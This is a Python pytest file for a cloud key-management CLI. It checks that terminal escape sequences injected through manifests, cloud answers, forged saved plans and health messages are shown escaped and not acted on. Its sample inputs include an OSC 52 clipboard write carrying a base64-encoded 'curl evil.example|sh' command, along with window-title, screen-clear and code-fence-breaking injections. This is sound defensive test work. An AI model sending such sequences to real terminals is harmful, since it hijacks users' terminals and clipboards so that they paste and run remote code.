"""Escape sequences from manifests, clouds and saved plans reach no terminal: they are shown, not acted on.

A window title (OSC 0), a screen clear, a clipboard write (OSC 52) and a C1 control (CSI) in a Sid,
a key name, an unknown YAML key or a cloud's answer are printed as escapes (`\\x1b`) by validate,
plan, show and every error, piped or not.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from reconciler.plan.document import digest
from tests.conftest import EXAMPLES, Result, write

EXAMPLE = EXAMPLES / "astra-serverless-azure.yaml"
# As YAML double-quoted escapes (the YAML stream itself may not hold control characters), and as sent.
SEQUENCES = {
    "window title": ("\\e]0;pwned\\a", "\x1b]0;pwned\x07"),
    "screen clear": ("\\e[2J\\e[H", "\x1b[2J\x1b[H"),
    "clipboard write": ("\\e]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\a", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"),
    "C1 CSI": ("\\x9b31m", "\x9b31m"),
}
RAW = ("\x1b", "\x07", "\x9b")


def clean(*texts: str) -> None:
    for text in texts:
        assert not [c for c in RAW if c in text], ascii(text[:300])


def with_sequence(text: str, old: str, new: str) -> str:
    assert old in text
    return text.replace(old, new, 1)


@pytest.mark.parametrize("name", SEQUENCES)
def test_manifest_values_and_keys_are_shown_not_acted_on(cmkctl: Callable[..., Result], tmp_path: Path,
                                                         name: str) -> None:
    yaml_escape, sent = SEQUENCES[name]
    shown = ascii(sent)[1:-1]  # '\x1b]0;pwned\x07', as Python writes it
    manifests = {
        "an unknown key": with_sequence(EXAMPLE.read_text(), "    cloud: azure\n",
                                        f'    cloud: azure\n    "x{yaml_escape}": 1\n'),
        "a key name": with_sequence(EXAMPLE.read_text(), "      - name: astra-eastus\n",
                                    f'      - name: "astra{yaml_escape}"\n'),
        "a Sid": with_sequence((EXAMPLES / "astra-managed-clusters-aws.yaml").read_text(),
                               "- Sid: Allow key administrators", f'- Sid: "Allow{yaml_escape}"'),
    }
    for what, text in manifests.items():
        path = write(tmp_path / "m.yaml", text)
        for command in (("validate", path), ("validate", "--format", "json", path), ("--json", "validate", path),
                        ("plan", "-f", path, "--sandbox", tmp_path / "s")):
            result = cmkctl(*command)
            assert result.code == 3, (what, command, result.out, result.err)
            clean(result.out, result.err)
            if "json" not in str(command):  # JSON escapes them its own way (\u001b), checked by clean()
                assert shown in result.err, (what, command, result.err)


def test_a_cloud_value_is_shown_not_acted_on(cmkctl: Callable[..., Result], tmp_path: Path) -> None:
    sandbox = tmp_path / "sandbox"
    write(sandbox / "world.yaml", "astra:\n  orgId: 33333333-3333-3333-3333-333333333333\n  registrations:\n"
          "    - {product: serverless, provider: azure, region: eastus, keyID: \"https://o.vault.azure.net/keys/"
          f"k{''.join(escape for escape, _ in SEQUENCES.values())}\"}}\n")
    for fmt in ("text", "markdown", "json"):
        result = cmkctl("plan", "-f", EXAMPLE, "--sandbox", sandbox, "--format", fmt)
        assert result.code == 3 and "astra_registration.eastus.serverless" in result.out
        clean(result.out, result.err)


def test_a_saved_plan_is_shown_not_acted_on(cmkctl: Callable[..., Result], tmp_path: Path) -> None:
    saved = tmp_path / "plan.json"
    assert cmkctl("plan", "-f", EXAMPLE, "--sandbox", tmp_path / "sandbox", "--out", saved).code == 0
    document = json.loads(saved.read_text())
    sequence = "".join(sent for _, sent in SEQUENCES.values())
    step = next(s for s in document["steps"] if s["changes"])
    step["reason"] += sequence
    step["changes"][0]["name"] += sequence
    step["identity"][f"name{sequence}"] = sequence
    read = next(s for s in document["steps"] if s["actions"] == ["read"])
    read["live"]["providerIds"] = [sequence]
    document["notices"].append({"code": "W" + sequence, "region": sequence, "level": "warning", "message": sequence})
    document["digest"] = digest(document)
    forged = write(tmp_path / "forged.json", json.dumps(document))
    for fmt in ("text", "markdown", "json"):
        result = cmkctl("show", forged, "--format", fmt)
        assert result.code == 0, result.err
        clean(result.out, result.err)
        assert "\\x1b]0;pwned\\x07" in result.out or "\\u001b]0;pwned\\u0007" in result.out


def test_a_health_reason_from_a_cloud_stays_on_its_line() -> None:
    from reconciler.plan.health import Finding, Health, PathHealth, Status
    from reconciler.render.health import render_health

    reason = "validation failed\n```\n**healthy**\x1b]0;pwned\x07\x9b2J"
    findings = (Finding("confluent_byok_key.eastus.k", Status.BROKEN, reason),
                Finding("azure_key.eastus.v/k", Status.BROKEN, reason))
    health = Health("acme", (PathHealth("confluent_byok_key.eastus.k", "confluent_byok_key", "eastus", findings),), 0)
    table = render_health(health, "text")
    clean(table, render_health(health, "json"))
    # The workflow quotes the table in a code block: no line of it may start a fence.
    assert not [line for line in table.splitlines() if line.lstrip().startswith("`")]
    assert "validation failed\\n```\\n**healthy**\\x1b]0;pwned\\x07\\x9b2J" in table
